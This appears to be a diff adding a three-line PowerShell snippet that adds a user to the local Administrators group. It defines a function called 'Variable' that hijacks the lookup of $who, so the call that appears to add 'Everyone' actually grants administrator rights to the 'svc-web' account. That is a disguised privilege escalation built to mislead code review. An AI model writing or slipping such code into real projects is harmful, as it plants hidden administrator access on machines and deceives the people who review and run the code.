@@ -1,0 +1,3 @@
+function Variable { 'svc-web' }
+$who = 'Everyone'
+Add-LocalGroupMember Administrators (Variable who -ValueOnly)
